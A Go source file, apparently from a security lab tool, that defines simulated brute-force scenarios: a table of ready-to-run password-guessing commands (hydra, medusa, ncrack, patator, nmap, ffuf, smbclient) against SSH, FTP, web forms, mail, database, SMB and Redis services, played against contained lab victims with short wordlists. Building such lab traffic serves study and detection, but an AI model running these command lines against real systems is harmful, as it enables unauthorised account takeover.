package lab

import (
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"time"

	"firetower/internal/attack"
)

// bruteForces: four tools against the services that people log in to. The lists
// hold too few words to run long, and half of them end with the right one.
func bruteForces() []Scenario {
	const web = attack.WebAttack
	const form = `"/login:user=^USER^&password=^PASS^:Wrong"`
	return []Scenario{
		guessing("hydra-ssh", "ssh", "hydra -I -t TASKS -l USER -P WORDS ssh://VICTIM"),
		guessing("medusa-ssh", "ssh", "medusa -h VICTIM -u USER -P WORDS -M ssh -t TASKS"),
		guessing("ncrack-ssh", "ssh", "ncrack -v --user USER -P WORDS -T 4 VICTIM:22"),
		guessing("patator-ssh", "ssh", "patator ssh_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS"),
		guessing("nmap-ssh", "ssh", "nmap -n -Pn -p 22 --script ssh-brute --script-args 'userdb=NAMES,passdb=WORDS,brute.threads=TASKS' VICTIM", attack.PortScan),
		guessing("slow-ssh", "ssh", "hydra -I -t 1 -W 2 -l USER -P WORDS ssh://VICTIM"),
		guessing("spray-ssh", "ssh", "hydra -I -t TASKS -L NAMES -p Welcome1 ssh://VICTIM"),
		guessing("hydra-ftp", "ftp", "hydra -I -t TASKS -l USER -P WORDS ftp://VICTIM"),
		guessing("medusa-ftp", "ftp", "medusa -h VICTIM -u USER -P WORDS -M ftp -t TASKS"),
		guessing("ncrack-ftp", "ftp", "ncrack --user USER -P WORDS VICTIM:21"),
		guessing("patator-ftp", "ftp", "patator ftp_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS"),
		guessing("hydra-form", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-post-form "+form, web),
		guessing("hydra-get", "web", "hydra -I -t TASKS -l USER -P WORDS VICTIM http-get-form "+form, web),
		guessing("patator-form", "web", "patator http_fuzz resolve=VICTIM:VICTIM url=http://VICTIM/login method=POST body='user=USER&password=FILE0' 0=WORDS -t TASKS", web),
		guessing("ffuf-form", "web", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/login -X POST -H 'Content-Type: application/x-www-form-urlencoded' -d 'user=USER&password=FUZZ' -fr Wrong", web),
		guessing("hydra-imap", "mail", "hydra -I -t TASKS -l USER -P WORDS imap://VICTIM"),
		guessing("hydra-pop3", "mail", "hydra -I -t TASKS -l USER -P WORDS pop3://VICTIM"),
		guessing("hydra-telnet", "telnet", "hydra -I -t TASKS -l USER -P WORDS telnet://VICTIM"),
		guessing("hydra-mysql", "mariadb", "hydra -I -t 4 -l app -P WORDS mysql://VICTIM"),
		guessing("patator-mysql", "mariadb", "patator mysql_login host=VICTIM user=app password=FILE0 0=WORDS -t TASKS"),
		guessing("hydra-postgres", "postgres", "hydra -I -t TASKS -l postgres -P WORDS postgres://VICTIM"),
		guessing("smb-passwords", "smb", "while read p; do smbclient -t 3 -U USER%$p //VICTIM/files -c quit; done < WORDS"),
		guessing("hydra-redis", "redis", "hydra -I -t TASKS -P WORDS redis://VICTIM"),
	}
}

// guessing is guesses at a service by a line of the table.
func guessing(name, service, line string, also ...attack.Class) Scenario {
	return family{class: attack.BruteForce, limit: 50 * time.Second, play: func(ctx context.Context, r *Run, line string) error {
		return guess(ctx, r, service, line)
	}}.row(name, line, also...)
}

// guess starts the service and plays a line of the table against it.
func guess(ctx context.Context, r *Run, service, line string) error {
	a, err := r.attacker(ctx)
	if err != nil {
		return err
	}
	victim, err := r.service(ctx, service)
	if err != nil {
		return err
	}
	r.against(victim)
	user := Users[r.IntN(len(Users))]
	found := ""
	if r.chance(0.5) {
		found = user.Password
	}
	words, err := r.words(a, r.between(30, 90), found)
	if err != nil {
		return err
	}
	names := filepath.Join(a.Dir, "names.txt")
	list := "root test guest oracle ubuntu git www ftp info user "
	for _, u := range Users {
		list += u.Name + " "
	}
	for i := range 25 {
		list += fmt.Sprintf("user%02d ", i)
	}
	if err := writeLines(names, strings.Fields(list)); err != nil {
		return err
	}
	if line, err = fillGuess(r, line, map[string]string{"VICTIM": r.at(victim).String(), "USER": user.Name, "WORDS": words, "NAMES": names}); err != nil {
		return err
	}
	r.play(ctx, a, "%s", line)
	return nil
}

func fillGuess(r *Run, line string, with map[string]string) (string, error) {
	// ^USER^ belongs to hydra.
	line = strings.ReplaceAll(line, "^USER^", "^\x00^")
	for k, v := range with {
		line = strings.ReplaceAll(line, k, v)
	}
	line = strings.ReplaceAll(line, "TASKS", r.pick("1", "2", "4", "4", "8"))
	return strings.ReplaceAll(line, "^\x00^", "^USER^"), nil
}
